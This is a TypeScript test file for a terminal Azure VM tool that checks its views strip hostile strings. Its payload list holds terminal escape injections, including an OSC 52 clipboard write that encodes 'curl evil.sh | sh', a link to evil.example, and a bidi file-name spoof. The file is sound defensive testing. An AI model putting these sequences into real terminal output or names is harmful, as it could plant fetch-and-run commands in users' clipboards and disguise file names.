/**
 * Bad-input corpus, display safety: hostile strings (terminal escape sequences, C0/C1 controls, bidi
 * overrides, huge names) put where Azure, the cache, a profile or a server puts text, drawn through the
 * real views (ink-testing-library) and the splash (which writes straight to the terminal), asserting the
 * output holds nothing a terminal would act on except the colour (SGR) sequences the drawing adds itself.
 */
import {createElement} from 'react';
import {render, cleanup} from 'ink-testing-library';
import {afterEach, describe, expect, it} from 'vitest';
import {readFileSync} from 'node:fs';
import {formatDoctorReport} from '../../source/commands/doctor.js';
import {formatTable} from '../../source/commands/profiles.js';
import {DialogView} from '../../source/app/dialogs/DialogView.js';
import {paintSplash} from '../../source/app/screen/splash.js';
import {fuzzyVmFilter} from '../../source/core/inventory/fuzzy-filter.js';
import {BrowserView} from '../../source/app/views/browser/BrowserView.js';
import {BrowserModel} from '../../source/app/views/browser/use-browser-state.js';
import {ProfileEditor} from '../../source/app/views/profile-editor/index.js';
import {SubscriptionPicker} from '../../source/app/views/subscriptions/SubscriptionPicker.js';
import type {Inventory, VmRecord} from '../../source/core/inventory/model.js';
import type {Profile} from '../../source/core/profiles/schema.js';
import {vm, waitForScreen} from '../app/profile-editor/helpers.js';
import {fakeStdout} from '../helpers/fake-stdout.js';

afterEach(() => cleanup());

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;

/** [what it is, the string]; each is tried in every field below. */
const HOSTILE: Array<[string, string]> = [
	['OSC 52 clipboard write (BEL)', `evil${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`],
	['OSC 52 clipboard write (ST)', `evil${ESC}]52;c;Y3VybA==${ST}`],
	['OSC 0 window title', `evil${ESC}]0;PWNED${BEL}`],
	['OSC 2 title + OSC 52 together', `evil${ESC}]52;c;SGk=${BEL}${ESC}]2;PWNED${BEL}`],
	['OSC 8 hyperlink', `${ESC}]8;;https://evil.example/${ST}click${ESC}]8;;${ST}`],
	['OSC 4 palette change', `pal${ESC}]4;1;rgb:ff/00/00${BEL}`],
	['OSC 7 cwd report', `${ESC}]7;file:///etc${BEL}cwd`],
	['OSC 1337 iTerm file', `${ESC}]1337;File=name=eA==;inline=1:AAAA${BEL}img`],
	['unterminated OSC', `name${ESC}]0;never ends`],
	['CSI erase screen', `wipe${ESC}[2J${ESC}[H`],
	['CSI erase line + cursor up', `up${ESC}[1A${ESC}[2Kover`],
	['CSI leave alternate screen', `alt${ESC}[?1049l`],
	['CSI mouse tracking on', `mouse${ESC}[?1000h${ESC}[?1006h`],
	['CSI device status report (answerback)', `dsr${ESC}[6n`],
	['CSI SGR colour (not ours)', `${ESC}[31;1mred${ESC}[0m`],
	['DCS DECRQSS', `dcs${ESC}P$qm${ST}`],
	['DCS tmux passthrough', `${ESC}Ptmux;${ESC}${ESC}]52;c;SGk=${BEL}${ST}tmux`],
	['APC payload', `apc${ESC}_Gf=24,s=1,v=1;AAAA${ST}`],
	['PM payload', `pm${ESC}^privacy${ST}`],
	['SOS payload', `sos${ESC}Xstring${ST}`],
	['8-bit CSI erase', 'c1\x9b2J'],
	['8-bit OSC title', 'c1\x9d0;PWNED\x9c'],
	['8-bit DCS', 'c1\x90$qm\x9c'],
	['lone C1 NEL and IND', 'nel\x85ind\x84'],
	['bidi RLO override', 'invoice\u202Efdp.exe'],
	['bidi isolates LRI/RLI/FSI/PDI', '\u2066a\u2067b\u2068c\u2069d'],
	['bidi marks LRM/RLM/ALM', 'x\u200Ey\u200Fz\u061C'],
	['bidi embeddings LRE/RLE/PDF', '\u202Aa\u202Bb\u202Cc'],
	['NUL bytes', 'nul\x00\x00name'],
	['BEL', `bell${BEL}${BEL}`],
	['lone ESC', `lone${ESC}`],
	['ESC ESC', `${ESC}${ESC}double`],
	['backspace overwrite', 'good\b\b\b\bevil'],
	['carriage return overwrite', 'safe-name\rEVIL'],
	['DEL and vertical tab, form feed', 'd\x7fe\x0bl\x0c'],
	['line breaks', 'line1\nline2\r\nline3'],
	['very long name with sequences', `${'a'.repeat(5000)}${ESC}]52;c;${'Q'.repeat(5000)}${BEL}${'\u202E'.repeat(500)}`],
	['very long unterminated DCS', `${ESC}P${'x'.repeat(20_000)}`],
];

/** SGR (colour) sequences: the only sequences Ink draws in a frame. */
const SGR = /\x1b\[[0-9;]*m/g;
const UNSAFE = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

/** Fails naming the first unsafe character if the frame holds anything but text, line breaks and SGR. */
function expectSafeFrame(frame: string): void {
	expect(frame).not.toMatch(/\x1b[\]P_^X]/);
	expect(frame).not.toMatch(/[\x9b\x9d\x90]/);
	const rest = frame.replace(SGR, '');
	const bad = UNSAFE.exec(rest);
	expect(bad ? `U+${bad[0].codePointAt(0)!.toString(16).padStart(4, '0')} at ${bad.index}: ${JSON.stringify(rest.slice(Math.max(0, bad.index - 20), bad.index + 20))}` : 'none').toBe('none');
}

function hostileVm(field: 'name' | 'resourceGroup' | 'subscriptionName' | 'tag', text: string): VmRecord {
	const base = vm('web-01', 'Standard', {enableTunneling: true});
	if (field === 'tag') return {...base, tags: {owner: text, [text]: 'value'}};
	return {...base, [field]: text};
}

function drawBrowser(vms: VmRecord[], extra: {status?: string; notice?: string; query?: string} = {}) {
	const model = new BrowserModel();
	if (extra.query) model.query = extra.query;
	return render(
		createElement(BrowserView, {
			model,
			vms,
			filter: fuzzyVmFilter(),
			hasProfile: () => false,
			onConnect: () => {},
			hints: [],
			sortKey: 'o',
			width: 120,
			height: 20,
			status: extra.status ?? 'demo lab',
			...(extra.notice ? {notice: {text: extra.notice, tone: 'error' as const}} : {}),
			isActive: false,
		}),
	);
}

describe.each(['name', 'resourceGroup', 'subscriptionName', 'tag'] as const)('the browser with a hostile VM %s', field => {
	it.each(HOSTILE)('%s', (_what, text) => {
		const {lastFrame} = drawBrowser([hostileVm(field, text), vm('web-02')], field === 'tag' ? {query: 'web'} : {});
		const frame = lastFrame() ?? '';
		expect(frame).toContain('web-02');
		expectSafeFrame(frame);
	});
});

describe('the browser with a hostile Azure error message (notice) and status line', () => {
	it.each(HOSTILE)('%s', (_what, text) => {
		const {lastFrame} = drawBrowser([vm('web-01')], {notice: `Azure said: ${text}`, status: `refreshing: ${text}`});
		const frame = lastFrame() ?? '';
		expect(frame).toContain('Azure said');
		expectSafeFrame(frame);
	});
});

describe('the splash (written straight to the terminal) with a hostile cached inventory', () => {
	it.each(HOSTILE)('%s', (_what, text) => {
		const out = fakeStdout({columns: 120, rows: 30});
		const inventory: Inventory = {
			fetchedAt: Date.now(),
			source: 'cache',
			subscriptions: [{id: 'sub', name: text}],
			vms: [hostileVm('name', text), hostileVm('resourceGroup', text), hostileVm('subscriptionName', text), vm('web-02')],
		};
		paintSplash(out, inventory, 'Azure');
		// The splash's own sequences: cursor home, erase to end of line, erase below, SGR; lines end in CR LF.
		const rest = out.written.replace(/\x1b\[H|\x1b\[K|\x1b\[J/g, '').replace(SGR, '').replace(/\r\n/g, '\n');
		expect(rest).toContain('web-02');
		expectSafeFrame(rest);
	});
});

describe('a server or Azure message in a dialog (SSH banner, disconnect reason, error)', () => {
	it.each(HOSTILE)('%s', (_what, text) => {
		const {lastFrame} = render(createElement(DialogView, {width: 100, dialog: {kind: 'message', title: `From the server: ${text}`, message: `Banner:\n${text}`, tone: 'error', onClose() {}}}));
		const frame = lastFrame() ?? '';
		expect(frame).toContain('From the server');
		expectSafeFrame(frame);
	});
});

describe('a host-key question naming a hostile host', () => {
	it.each(HOSTILE)('%s', (_what, text) => {
		const {lastFrame} = render(createElement(DialogView, {width: 100, dialog: {kind: 'host-key', info: {host: text, port: 22, keyType: `ssh-ed25519${text}`, fingerprint: 'SHA256:abc'}, onAnswer() {}}}));
		expectSafeFrame(lastFrame() ?? '');
	});
});

describe('the subscription picker with a hostile subscription name', () => {
	it.each(HOSTILE)('%s', async (_what, text) => {
		const {lastFrame} = render(
			createElement(SubscriptionPicker, {
				load: async () => [
					{id: 'a', name: text, state: 'Enabled'},
					{id: 'b', name: 'Contoso Prod', state: text},
				],
				selected: [],
				onSave() {},
				onCancel() {},
				width: 100,
				height: 20,
			}),
		);
		await waitForScreen(lastFrame, screen => screen.includes('Contoso Prod'), 'the subscriptions');
		expectSafeFrame(lastFrame() ?? '');
	});
});

describe('the profile editor drafting a profile (its name) from a hostile VM', () => {
	it.each(HOSTILE)('%s', async (_what, text) => {
		const {lastFrame} = render(
			createElement(ProfileEditor, {
				existingNames: [],
				profilesByName: {},
				homeDir: '/nonexistent-home',
				width: 100,
				height: 40,
				draftFrom: hostileVm('name', text),
				onSave() {},
				onCancel() {},
			}),
		);
		await waitForScreen(lastFrame, screen => screen.includes('New profile'), 'the editor');
		expectSafeFrame(lastFrame() ?? '');
	});
});

describe('`vmux doctor` printing a report about a hostile VM with a hostile Azure message', () => {
	it.each(HOSTILE)('%s', (_what, text) => {
		const printed = formatDoctorReport({
			target: text,
			vm: {id: '/subscriptions/s/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/x', name: text, resourceGroup: text, subscriptionId: 's', subscriptionName: text},
			profileName: text,
			checks: [{id: 'vm', title: 'VM found', status: 'fail', detail: `Azure said: ${text}`, fix: `Ask about ${text}`}],
			ok: false,
		});
		expect(printed).toContain('Azure said');
		expectSafeFrame(printed);
	});
});

describe('`vmux profiles list` printing a profile that targets a hostile VM', () => {
	const example = (JSON.parse(readFileSync('profiles.example.json', 'utf8')) as {profiles: Profile[]}).profiles[0]!;
	it.each(HOSTILE)('%s', (_what, text) => {
		if (example.target.kind !== 'azure-vm') throw new Error('profiles.example.json starts with an Azure VM profile');
		const printed = formatTable([{...example, name: text, username: text, target: {...example.target, vmName: text, resourceGroup: text}}]);
		expect(printed).toContain('NAME');
		expectSafeFrame(printed);
	});
});
